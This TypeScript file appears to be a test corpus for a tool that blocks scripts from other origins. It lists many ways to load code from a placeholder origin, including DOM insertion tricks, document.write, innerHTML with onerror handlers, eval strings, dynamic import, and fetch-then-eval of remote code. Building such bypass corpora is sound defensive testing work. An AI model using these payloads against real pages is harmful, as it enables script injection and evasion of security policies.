import { group, js } from '../vector.ts';

const S = `var s=document.createElement('script');`;
const src = `${S}s.src='{{o}}/x.js';`;
const html = `'<script src="{{o}}/x.js"><\\/script>'`;

/** Every method that puts a script into the page. */
export const insertion = group('insertion', [
  ['append-child', 'XR', js(`${src}document.head.appendChild(s)`)],
  [
    'insert-before',
    'XR',
    js(`${src}var f=document.getElementsByTagName('script')[0];f.parentNode.insertBefore(s,f)`),
  ],
  ['insert-before-null', 'XR', js(`${src}document.body.insertBefore(s,null)`)],
  ['replace-child', 'XR', `<p id="p"></p>${js(`${src}p.parentNode.replaceChild(s,p)`)}`],
  ['append', 'XR', js(`${src}document.body.append('text',s)`)],
  ['prepend', 'XR', js(`${src}document.body.prepend(s)`)],
  ['before', 'XR', `<p id="p"></p>${js(`${src}p.before(s)`)}`],
  ['after', 'XR', `<p id="p"></p>${js(`${src}p.after(s)`)}`],
  ['replace-with', 'XR', `<p id="p"></p>${js(`${src}p.replaceWith(s)`)}`],
  ['replace-children', 'XR', `<p id="p"></p>${js(`${src}p.replaceChildren(s)`)}`],
  ['insert-adjacent-element', 'XR', js(`${src}document.body.insertAdjacentElement('beforeend',s)`)],
  ['text-before', 'XR', `<p id="p">text</p>${js(`${src}p.firstChild.before(s)`)}`],
  ['text-after', 'XR', `<p id="p">text</p>${js(`${src}p.firstChild.after(s)`)}`],
  ['text-replace-with', 'XR', `<p id="p">text</p>${js(`${src}p.firstChild.replaceWith(s)`)}`],
  [
    'import-text-after-insertion',
    'XR',
    js(
      `var s=document.createElement('script');document.body.append(s);s.textContent='imp'+"ort('{{o}}/m.mjs').catch(()=>{})"`,
    ),
  ],
  ['comment-after', 'XR', `<p id="p"><!-- c --></p>${js(`${src}p.firstChild.after(s)`)}`],
  [
    'fragment',
    'XR',
    js(`${src}var f=document.createDocumentFragment();f.append(s);document.body.appendChild(f)`),
  ],
  [
    'fragment-constructor',
    'XR',
    js(`${src}var f=new DocumentFragment();f.replaceChildren(s);document.body.append(f)`),
  ],
  [
    'fragment-prepend',
    'XR',
    js(`${src}var f=new DocumentFragment();f.prepend(s);document.body.insertBefore(f,null)`),
  ],
  [
    'table-caption',
    'XR',
    js(
      `${src}var t=document.body.appendChild(document.createElement('table'));var c=document.createElement('caption');c.append(s);t.caption=c`,
    ),
  ],
  [
    'document-body',
    'XR',
    js(
      `${src}addEventListener('load',()=>{var b=document.createElement('body');b.append(s);document.body=b})`,
    ),
  ],
  [
    'select-add',
    'XR',
    js(
      `${src}var o=document.createElement('option');o.append(s);document.body.appendChild(document.createElement('select')).add(o)`,
    ),
  ],
  [
    'range-insert-node',
    'XR',
    `<p id="p">text</p>${js(`${src}var r=document.createRange();r.selectNode(p);r.insertNode(s)`)}`,
  ],
  [
    'range-constructor',
    'XR',
    `<p id="p">text</p>${js(`${src}var r=new Range();r.selectNodeContents(p);r.insertNode(s)`)}`,
  ],
  [
    'range-surround',
    'XR',
    `<p id="p">text</p>${js(`${src}var d=document.createElement('div');d.append(s);var r=document.createRange();r.selectNodeContents(p);r.deleteContents();r.insertNode(d)`)}`,
  ],
  [
    'range-surround-contents',
    'XR',
    `<p id="p">var a=1</p>${js(`${src}var r=document.createRange();r.selectNodeContents(p);r.surroundContents(s)`)}`,
  ],
  [
    'nested',
    'XR',
    js(
      `${src}var a=document.createElement('div'),b=document.createElement('p');a.append(b);b.append(s);document.body.append(a)`,
    ),
  ],
  ['document-element', 'XR', js(`${src}document.documentElement.appendChild(s)`)],
  [
    'replaced-document',
    'XR',
    js(
      `${src}var h=document.createElement('html');h.append(s);document.replaceChild(h,document.documentElement)`,
    ),
  ],
  [
    'document-append',
    'XR',
    js(
      `${src}var h=document.createElement('html');h.append(s);document.documentElement.remove();document.append(h)`,
    ),
  ],
  ['call', 'XR', js(`${src}Node.prototype.appendChild.call(document.body,s)`)],
  ['reflect-apply', 'XR', js(`${src}Reflect.apply(Element.prototype.append,document.body,[s])`)],
  ['shadow-append', 'XR', `<div id="d"></div>${js(`${src}d.attachShadow({mode:'open'}).append(s)`)}`],
  [
    'shadow-append-child',
    'XR',
    `<div id="d"></div>${js(`${src}d.attachShadow({mode:'open'}).appendChild(s)`)}`,
  ],
  ['shadow-closed', 'XR', `<div id="d"></div>${js(`${src}d.attachShadow({mode:'closed'}).append(s)`)}`],
  [
    'shadow-before-host',
    'XR',
    js(
      `${src}var d=document.createElement('div');d.attachShadow({mode:'closed'}).append(s);document.body.append(d)`,
    ),
  ],
  [
    'shadow-in-shadow',
    'XR',
    js(
      `${src}var a=document.createElement('div'),b=document.createElement('div');b.attachShadow({mode:'open'}).append(s);a.attachShadow({mode:'open'}).append(b);document.body.append(a)`,
    ),
  ],
  [
    'custom-element',
    'XR',
    `${js(`customElements.define('x-tag',class extends HTMLElement{connectedCallback(){${src}this.append(s)}})`)}<x-tag></x-tag>`,
  ],
  [
    'custom-element-constructor',
    'XR',
    js(
      `${src}class T extends HTMLElement{constructor(){super();this.attachShadow({mode:'closed'}).append(s)}};customElements.define('x-tag',T);document.body.append(new T)`,
    ),
  ],
  [
    'built-in-element',
    'XR',
    js(
      `class T extends HTMLScriptElement{};customElements.define('x-script',T,{extends:'script'});var s=new T;s.src='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'moved',
    'XR',
    js(`var b=document.createElement('div');${src}b.append(s);document.body.append(b.firstChild)`),
  ],
  [
    'many',
    'XR',
    js(
      `var f=document.createDocumentFragment();for(var i=0;i<200;i++)f.append(document.createElement('p'));${src}f.append(s);document.body.append(f)`,
    ),
  ],
  ['timer', 'XR', js(`setTimeout(()=>{${src}document.body.append(s)},20)`)],
  ['on-load', 'XR', js(`addEventListener('load',()=>{${src}document.body.append(s)})`)],
  ['microtask', 'XR', js(`Promise.resolve().then(()=>{${src}document.body.append(s)})`)],
  [
    'observer',
    'XR',
    js(
      `new MutationObserver((l,o)=>{o.disconnect();${src}document.body.append(s)}).observe(document,{childList:true,subtree:true})`,
    ),
  ],
]);

/** Every way for a script to get its address and its type. */
export const address = group('address', [
  ['property', 'XR', js(`${S}s.src='{{o}}/x.js';document.body.append(s)`)],
  ['property-protocol-relative', 'XR', js(`${S}s.src='{{s}}/x.js';document.body.append(s)`)],
  ['property-url-object', 'XR', js(`${S}s.src=new URL('{{o}}/x.js');document.body.append(s)`)],
  ['property-object', 'XR', js(`${S}s.src={toString(){return '{{o}}/x.js'}};document.body.append(s)`)],
  [
    'property-changing-object',
    'XR',
    js(`${S}var n=0;s.src={toString(){return n++?'/own.js':'{{o}}/x.js'}};document.body.append(s)`),
  ],
  ['property-tabs', 'XR', js(`${S}s.src='ht\\ttps:\\n{{s}}/x.js';document.body.append(s)`)],
  ['built-up', 'XR', js(`${S}s.src={{parts}}.join('')+'/x.js';document.body.append(s)`)],
  [
    'setter-call',
    'XR',
    js(
      `${S}Object.getOwnPropertyDescriptor(HTMLScriptElement.prototype,'src').set.call(s,'{{o}}/x.js');document.body.append(s)`,
    ),
  ],
  ['lookup-setter', 'XR', js(`${S}s.__lookupSetter__('src').call(s,'{{o}}/x.js');document.body.append(s)`)],
  [
    'object-assign',
    'XR',
    js(`document.body.append(Object.assign(document.createElement('script'),{src:'{{o}}/x.js',async:true}))`),
  ],
  ['reflect-set', 'XR', js(`${S}Reflect.set(s,'src','{{o}}/x.js');document.body.append(s)`)],
  ['set-attribute', 'XR', js(`${S}s.setAttribute('src','{{o}}/x.js');document.body.append(s)`)],
  ['set-attribute-upper', 'XR', js(`${S}s.setAttribute('SRC','{{o}}/x.js');document.body.append(s)`)],
  ['set-attribute-ns', 'XR', js(`${S}s.setAttributeNS(null,'src','{{o}}/x.js');document.body.append(s)`)],
  [
    'attribute-node',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');a.value='{{o}}/x.js';s.setAttributeNode(a);document.body.append(s)`,
    ),
  ],
  [
    'attribute-node-ns',
    'XR',
    js(
      `${S}var a=document.createAttributeNS(null,'src');a.value='{{o}}/x.js';s.setAttributeNodeNS(a);document.body.append(s)`,
    ),
  ],
  [
    'named-item',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');a.value='{{o}}/x.js';s.attributes.setNamedItem(a);document.body.append(s)`,
    ),
  ],
  [
    'named-item-ns',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');a.nodeValue='{{o}}/x.js';s.attributes.setNamedItemNS(a);document.body.append(s)`,
    ),
  ],
  [
    'attribute-value',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');s.setAttributeNode(a);a.value='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'attribute-node-value',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');s.setAttributeNode(a);a.nodeValue='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'attribute-text-content',
    'XR',
    js(
      `${S}var a=document.createAttribute('src');s.setAttributeNode(a);a.textContent='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'attribute-moved',
    'XR',
    js(
      `${S}var i=document.createElement('b');i.setAttribute('src','{{o}}/x.js');s.setAttributeNode(i.removeAttributeNode(i.getAttributeNode('src')));document.body.append(s)`,
    ),
  ],
  ['after-insertion', 'XR', js(`${S}document.body.append(s);s.src='{{o}}/x.js'`)],
  ['after-insertion-attribute', 'XR', js(`${S}document.body.append(s);s.setAttribute('src','{{o}}/x.js')`)],
  [
    'after-insertion-node',
    'XR',
    js(
      `${S}document.body.append(s);var a=document.createAttribute('src');a.value='{{o}}/x.js';s.setAttributeNode(a)`,
    ),
  ],
  [
    'type-last',
    'XR',
    js(
      `${S}s.type='text/plain';s.src='{{o}}/x.js';document.body.append(s);s.type='text/javascript';document.body.append(s)`,
    ),
  ],
  [
    'type-removed',
    'XR',
    js(`${S}s.type='text/plain';s.src='{{o}}/x.js';s.removeAttribute('type');document.body.append(s)`),
  ],
  [
    'type-parser-last',
    'XR',
    `<script type="text/plain" id="s" src="{{o}}/x.js"></script>${js(`s.type='text/javascript';document.body.append(s)`)}`,
  ],
  ['type-module', 'XR', js(`${S}s.type='module';s.src='{{o}}/m.mjs';document.body.append(s)`)],
  [
    'type-module-inline',
    'XR',
    js(`${S}s.type='module';s.textContent="import '{{o}}/m.mjs'";document.body.append(s)`),
  ],
  [
    'create-ns',
    'XR',
    js(
      `var s=document.createElementNS('http://www.w3.org/1999/xhtml','script');s.src='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'create-upper',
    'XR',
    js(`var s=document.createElement('SCRIPT');s.src='{{o}}/x.js';document.body.append(s)`),
  ],
  [
    'create-svg',
    'XR',
    js(
      `var s=document.createElementNS('http://www.w3.org/2000/svg','script');s.setAttribute('href','{{o}}/x.js');document.body.append(s)`,
    ),
  ],
  [
    'create-svg-xlink',
    'XR',
    js(
      `var s=document.createElementNS('http://www.w3.org/2000/svg','script');s.setAttributeNS('http://www.w3.org/1999/xlink','xlink:href','{{o}}/x.js');document.body.append(s)`,
    ),
  ],
  [
    'create-svg-base-val',
    'XR',
    js(
      `var s=document.createElementNS('http://www.w3.org/2000/svg','script');s.href.baseVal='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  ['sync', 'XR', js(`${src}s.async=false;document.body.append(s)`)],
  ['defer', 'XR', js(`${src}s.defer=true;document.head.append(s)`)],
  ['clone', 'XR', js(`${src}document.body.append(s.cloneNode())`)],
  [
    'clone-deep',
    'XR',
    js(`var d=document.createElement('div');${src}d.append(s);document.body.append(d.cloneNode(true))`),
  ],
  [
    'clone-inert',
    'XR',
    `<script type="text/plain" id="s" src="{{o}}/x.js"></script>${js(`var c=s.cloneNode();c.removeAttribute('type');document.body.append(c)`)}`,
  ],
  [
    'template-clone',
    'XR',
    `<template id="t"><script src="{{o}}/x.js"></script></template>${js(`document.body.append(t.content.cloneNode(true))`)}`,
  ],
  [
    'template-import',
    'XR',
    `<template id="t"><script src="{{o}}/x.js"></script></template>${js(`document.body.append(document.importNode(t.content,true))`)}`,
  ],
  [
    'template-itself',
    'XR',
    `<template id="t"><script src="{{o}}/x.js"></script></template>${js(`document.body.append(t.content)`)}`,
  ],
  [
    'template-child',
    'XR',
    `<template id="t"><script src="{{o}}/x.js"></script></template>${js(`document.body.append(t.content.firstChild)`)}`,
  ],
  [
    'other-document',
    'XR',
    js(
      `var d=document.implementation.createHTMLDocument(''),s=d.createElement('script');s.src='{{o}}/x.js';document.body.append(s)`,
    ),
  ],
  [
    'other-document-adopt',
    'XR',
    js(
      `var d=document.implementation.createHTMLDocument(''),s=d.createElement('script');s.src='{{o}}/x.js';document.body.append(document.adoptNode(s))`,
    ),
  ],
  [
    'descriptor-redefined',
    'XR',
    js(
      `${S}Object.defineProperty(s,'src',{get(){return '/x.js'},set(){}});s.setAttribute('src','{{o}}/x.js');document.body.append(s)`,
    ),
  ],
  [
    'referrer-policy',
    'XR',
    js(
      `${src}s.referrerPolicy='no-referrer';s.crossOrigin='anonymous';s.fetchPriority='high';document.body.append(s)`,
    ),
  ],
  [
    'own-text-loader',
    'XR',
    js(
      `${S}s.text="var t=document.createElement('script');t.src='{{o}}/x.js';document.body.append(t)";document.body.append(s)`,
    ),
  ],
  [
    'own-file-loader',
    'XR',
    '<script src="own.js"></script>',
    { files: { 'own.js': `${src}document.body.append(s)` } },
  ],
  [
    'own-blob-loader',
    'XR',
    js(
      `${S}s.src=URL.createObjectURL(new Blob(["var t=document.createElement('script');t.src='{{o}}/x.js';document.body.append(t)"]));document.body.append(s)`,
    ),
  ],
]);

/** Markup as a string. */
export const markup = group('markup', [
  ['fragment', 'XR', js(`document.body.append(document.createRange().createContextualFragment(${html}))`)],
  [
    'fragment-nested',
    'XR',
    js(`document.body.append(new Range().createContextualFragment('<div><p>'+${html}+'</p></div>'))`),
  ],
  [
    'fragment-script-child',
    'XR',
    js(`var f=new Range().createContextualFragment(${html});document.body.append(f.firstChild)`),
  ],
  ['write', 'XR', js(`document.write(${html})`)],
  ['writeln', 'XR', js(`document.writeln(${html})`)],
  ['write-arguments', 'XR', js(`document.write('<script src="','{{o}}/x.js','"><\\/script>')`)],
  [
    'write-pieces',
    'XR',
    js(
      `document.write('<scr');document.write('ipt src="{{o}}/x');document.write('.js"></scr');document.write('ipt>')`,
    ),
  ],
  ['write-characters', 'XR', js(`for(var c of ${html})document.write(c)`)],
  [
    'write-in-external',
    'XR',
    '<script src="own.js"></script>',
    { files: { 'own.js': `document.write(${html})` } },
  ],
  [
    'write-script-that-writes',
    'XR',
    js(
      `document.write('<script>document.write(\\'<script src="{{o}}/x.js"></scr\\'+\\'ipt>\\')</scr'+'ipt>')`,
    ),
  ],
  ['write-image', 'R', js(`document.write('<img src="{{o}}/p.gif">')`)],
  ['write-image-pieces', 'R', js(`document.write('<img src="{{o}}');document.write('/p.gif">')`)],
  ['write-frame', 'R', js(`document.write('<iframe src="{{o}}/f.html"></iframe>')`)],
  [
    'write-frame-pieces',
    'R',
    js(`document.write('<iframe src="');document.write('{{o}}/f.html">');document.write('</iframe>')`),
  ],
  ['write-stylesheet', 'R', js(`document.write('<link rel=stylesheet href="{{o}}/c.css">')`)],
  [
    'write-inline-loader',
    'XR',
    js(
      `document.write('<script>var s=document.createElement("script");s.src="{{o}}/x.js";document.head.append(s)<\\/script>')`,
    ),
  ],
  [
    'write-after-load',
    'XR',
    js(
      `addEventListener('load',()=>setTimeout(()=>{document.open();document.write('<p>'+${html});document.close()},10))`,
    ),
  ],
  [
    'write-onerror',
    'XR',
    js(
      `document.write('<img src="data:x" onerror="var s=document.createElement(\\'script\\');s.src=\\'{{o}}/x.js\\';document.head.append(s)">')`,
    ),
  ],
  [
    'inner-html-image',
    'R',
    js(`document.body.insertBefore(document.createElement('div'),null).innerHTML='<img src="{{o}}/p.gif">'`),
  ],
  ['inner-html-detached-image', 'R', js(`document.createElement('div').innerHTML='<img src="{{o}}/p.gif">'`)],
  [
    'inner-html-srcset',
    'R',
    js(
      `var d=document.createElement('div');document.body.append(d);d.innerHTML='<img srcset="{{o}}/p.gif 1x, {{o}}/p2.gif 2x">'`,
    ),
  ],
  [
    'inner-html-unquoted',
    'R',
    js(`var d=document.createElement('div');document.body.append(d);d.innerHTML='<IMG SRC={{o}}/p.gif>'`),
  ],
  [
    'inner-html-handler',
    'XR',
    js(
      `var d=document.createElement('div');document.body.append(d);d.innerHTML='<img src="data:x" onerror="var s=document.createElement(\\'script\\');s.src=\\'{{o}}/x.js\\';document.head.append(s)">'`,
    ),
  ],
  [
    'inner-html-svg-handler',
    'XR',
    js(
      `var d=document.createElement('div');document.body.append(d);d.innerHTML='<svg><image href="data:x" onerror="var s=document.createElement(\\'script\\');s.src=\\'{{o}}/x.js\\';document.head.append(s)"></image></svg>'`,
    ),
  ],
  [
    'inner-html-reused-script',
    'XR',
    js(
      `var d=document.createElement('div');d.innerHTML=${html};var o=d.firstChild,s=document.createElement('script');s.src=o.getAttribute('src')||o.src||'';document.body.append(s)`,
    ),
  ],
  [
    'inner-html-script-clone',
    'XR',
    js(
      `var d=document.createElement('div');d.innerHTML=${html};var o=d.firstChild,s=document.createElement('script');for(var a of o.attributes)s.setAttribute(a.name,a.value);document.body.append(s)`,
    ),
  ],
  ['outer-html', 'R', `<p id="p"></p>${js(`p.outerHTML='<img src="{{o}}/p.gif">'`)}`],
  [
    'insert-adjacent-html',
    'R',
    js(`document.body.insertAdjacentHTML('beforeend','<img src="{{o}}/p.gif">')`),
  ],
  [
    'insert-adjacent-html-after',
    'R',
    `<p id="p"></p>${js(`p.insertAdjacentHTML('afterend','<iframe src="{{o}}/f.html"></iframe>')`)}`,
  ],
  [
    'set-html-unsafe',
    'R',
    js(
      `var d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<img src="{{o}}/p.gif">')`,
    ),
  ],
  [
    'set-html-unsafe-shadow',
    'R',
    js(
      `var d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<div><template shadowrootmode="open"><img src="{{o}}/p.gif"></template></div>')`,
    ),
  ],
  [
    'parse-html-unsafe',
    'XR',
    js(
      `var d=Document.parseHTMLUnsafe(${html});var o=d.querySelector('script'),s=document.createElement('script');s.src=o.getAttribute('src')||'';document.body.append(s)`,
    ),
  ],
  [
    'parse-html-unsafe-image',
    'R',
    js(`document.body.append(Document.parseHTMLUnsafe('<img src="{{o}}/p.gif">').querySelector('img'))`),
  ],
  [
    'parse-html-unsafe-closed-root',
    'R',
    js(
      `document.body.append(...Document.parseHTMLUnsafe('<div><template shadowrootmode=closed><img src="{{o}}/p.gif"></template></div>').body.children)`,
    ),
  ],
  [
    'dom-parser-image',
    'R',
    js(
      `document.body.append(new DOMParser().parseFromString('<img src="{{o}}/p.gif">','text/html').querySelector('img'))`,
    ),
  ],
  [
    'dom-parser-frame',
    'R',
    js(
      `document.body.append(new DOMParser().parseFromString('<iframe src="{{o}}/f.html"></iframe>','text/html').querySelector('iframe'))`,
    ),
  ],
  [
    'shadow-inner-html',
    'R',
    `<div id="d"></div>${js(`d.attachShadow({mode:'open'}).innerHTML='<img src="{{o}}/p.gif">'`)}`,
  ],
  [
    'shadow-closed-inner-html',
    'R',
    `<div id="d"></div>${js(`d.attachShadow({mode:'closed'}).innerHTML='<img src="{{o}}/p.gif">'`)}`,
  ],
  [
    'shadow-set-html-unsafe',
    'R',
    `<div id="d"></div>${js(`d.attachShadow({mode:'open'}).setHTMLUnsafe('<img src="{{o}}/p.gif">')`)}`,
  ],
  [
    'template-inner-html-image',
    'R',
    js(
      `var t=document.createElement('template');t.innerHTML='<img src="{{o}}/p.gif">';document.body.append(document.importNode(t.content,true))`,
    ),
  ],
  [
    'exec-command',
    'R',
    `<div id="d" contenteditable>text</div>${js(`d.focus();getSelection().selectAllChildren(d);document.execCommand('insertHTML',false,'<img src="{{o}}/p.gif">')`)}`,
  ],
  [
    'handler-attribute',
    'XR',
    `<img src="data:x" onerror="var s=document.createElement('script');s.src='{{o}}/x.js';document.head.append(s)">`,
  ],
  [
    'handler-attribute-set',
    'XR',
    js(
      `var i=new Image();i.setAttribute('onerror',"var s=document.createElement('script');s.src='{{o}}/x.js';document.head.append(s)");i.src='data:x'`,
    ),
  ],
  [
    'body-onload',
    'XR',
    '',
    {
      head: `</head><body onload="var s=document.createElement('script');s.src='{{o}}/x.js';document.head.append(s)">`,
    },
  ],
  [
    'details-toggle',
    'XR',
    `<details open ontoggle="var s=document.createElement('script');s.src='{{o}}/x.js';document.head.append(s)">x</details>`,
  ],
  [
    'xslt',
    'R',
    js(
      `var p=new XSLTProcessor;p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img src="{{o}}/p.gif"/></xsl:template></xsl:stylesheet>','text/xml'));document.body.append(p.transformToFragment(new DOMParser().parseFromString('<a/>','text/xml'),document))`,
    ),
  ],
]);

/** Strings that become code. */
export const strings = group('strings', [
  ['eval', 'XR', js(`eval("${src}document.body.append(s)")`)],
  ['eval-indirect', 'XR', js(`(0,eval)("${src}document.body.append(s)")`)],
  ['function', 'XR', js(`new Function("${src}document.body.append(s)")()`)],
  ['timeout', 'XR', js(`setTimeout("${src}document.body.append(s)",1)`)],
  ['interval', 'XR', js(`var i=setInterval("clearInterval(i);${src}document.body.append(s)",1)`)],
  ['eval-import', 'XR', js(`eval("import('{{o}}/m.mjs').catch(()=>{})")`)],
  ['function-import', 'XR', js(`new Function("return import('{{o}}/m.mjs').catch(()=>{})")()`)],
  [
    'async-function-import',
    'XR',
    js(`new (async()=>{}).constructor("await import('{{o}}/m.mjs').catch(()=>{})")()`),
  ],
  ['timeout-import', 'XR', js(`setTimeout("import('{{o}}/m.mjs').catch(()=>{})",1)`)],
  ['import-built-up', 'XR', js(`import({{parts}}.join('')+'/m.mjs').catch(()=>{})`)],
  [
    'import-in-own-file',
    'XR',
    '<script src="own.js"></script>',
    { files: { 'own.js': `import('{{o}}/m.mjs').catch(()=>{})` } },
  ],
  ['import-in-handler', 'XR', `<img src="data:x" onerror="import('{{o}}/m.mjs').catch(()=>{})">`],
  ['import-json', 'R', js(`import('{{o}}/data.json',{with:{type:'json'}}).catch(()=>{})`)],
  ['import-data-url', 'XR', js(`import("data:text/javascript,import '{{o}}/m.mjs'").catch(()=>{})`)],
  [
    'import-blob',
    'XR',
    js(
      `import(URL.createObjectURL(new Blob(["import '{{o}}/m.mjs'"],{type:'text/javascript'}))).catch(()=>{})`,
    ),
  ],
  ['fetched-and-run', 'XR', js(`fetch('{{o}}/x.js').then(r=>r.text()).then(t=>(0,eval)(t)).catch(()=>{})`)],
  [
    'fetched-to-blob',
    'XR',
    js(
      `fetch('{{o}}/x.js').then(r=>r.blob()).then(b=>{${S}s.src=URL.createObjectURL(b);document.body.append(s)}).catch(()=>{})`,
    ),
  ],
  [
    'fetched-sync-to-text',
    'XR',
    js(
      `var x=new XMLHttpRequest;try{x.open('GET','{{o}}/x.js',false);x.send();${S}s.text=x.responseText;document.body.append(s)}catch(e){}`,
    ),
  ],
]);
